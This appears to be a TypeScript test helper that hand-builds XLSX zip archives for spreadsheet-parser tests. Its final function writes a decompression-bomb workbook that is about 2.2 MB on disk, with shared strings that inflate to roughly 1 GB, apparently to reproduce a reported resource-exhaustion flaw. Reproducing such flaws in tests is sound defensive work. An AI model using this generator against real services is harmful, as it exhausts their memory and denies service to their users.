import { writeFileSync } from 'node:fs';
import { constants, crc32, deflateRawSync } from 'node:zlib';

/** A part already deflated: its compressed bytes, the size it inflates to and that text's CRC-32. */
export interface Deflated {
  deflated: Buffer;
  size: number;
  crc: number;
}

/** A zip archive of the given parts (text or bytes deflated here, or parts deflated already), for workbooks exceljs would not write. */
export function zipOf(parts: Record<string, string | Buffer | Deflated>): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, part] of Object.entries(parts)) {
    const data = typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.isBuffer(part) ? part : null;
    const packed = data ? deflateRawSync(data) : (part as Deflated).deflated;
    const size = data ? data.length : (part as Deflated).size;
    const crc = data ? crc32(data) : (part as Deflated).crc;
    const nameBytes = Buffer.from(name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(crc, 16);
    entry.writeUInt32LE(packed.length, 20);
    entry.writeUInt32LE(size >>> 0, 24);
    entry.writeUInt16LE(nameBytes.length, 28);
    entry.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, packed);
    central.push(entry, nameBytes);
    offset += local.length + nameBytes.length + packed.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(parts).length, 8);
  end.writeUInt16LE(Object.keys(parts).length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

/**
 * `head`, then `unit` repeated until about `bytes`, then `tail`, deflated in a few milliseconds: one
 * megabyte of units is deflated once, flushed to a byte boundary, and its compressed bytes repeated.
 */
export function deflatedRepeat(head: string, unit: string, bytes: number, tail: string): Deflated {
  const block = Buffer.from(unit.repeat(Math.max(1, Math.floor((1 << 20) / unit.length))));
  const flush = { level: 9, finishFlush: constants.Z_FULL_FLUSH };
  const times = Math.max(1, Math.round(bytes / block.length));
  const segment = deflateRawSync(block, flush);
  let crc = crc32(head);
  for (let n = 0; n < times; n++) crc = crc32(block, crc);
  return {
    crc: crc32(tail, crc),
    deflated: Buffer.concat([
      deflateRawSync(Buffer.from(head), flush),
      ...Array<Buffer>(times).fill(segment),
      deflateRawSync(Buffer.from(tail)),
    ]),
    size: Buffer.byteLength(head) + times * block.length + Buffer.byteLength(tail),
  };
}

const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A workbook of the smallest shape a reader opens: one sheet and its shared strings, as given. */
export function workbookOf(
  file: string,
  parts: { sheet: string | Deflated; sharedStrings: string | Deflated },
) {
  writeFileSync(
    file,
    zipOf({
      '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      'xl/workbook.xml': `<workbook xmlns="${NS}" xmlns:r="${REL}"><sheets><sheet name="People" sheetId="1" r:id="s1"/></sheets></workbook>`,
      'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="s2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
      'xl/sharedStrings.xml': parts.sharedStrings,
      'xl/worksheets/sheet1.xml': parts.sheet,
    }),
  );
  return file;
}

/**
 * The workbook of the report: 2.2 MB on disk whose shared strings inflate to about 1 GB (a million
 * thousand-character texts), and a sheet that uses the first of them.
 */
export function sharedStringsBomb(file: string, inflatedBytes = 1 << 30) {
  return workbookOf(file, {
    sharedStrings: deflatedRepeat(
      `<sst xmlns="${NS}">`,
      `<si><t>${'x'.repeat(1000)}</t></si>`,
      inflatedBytes,
      '</sst>',
    ),
    sheet: `<worksheet xmlns="${NS}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>`,
  });
}
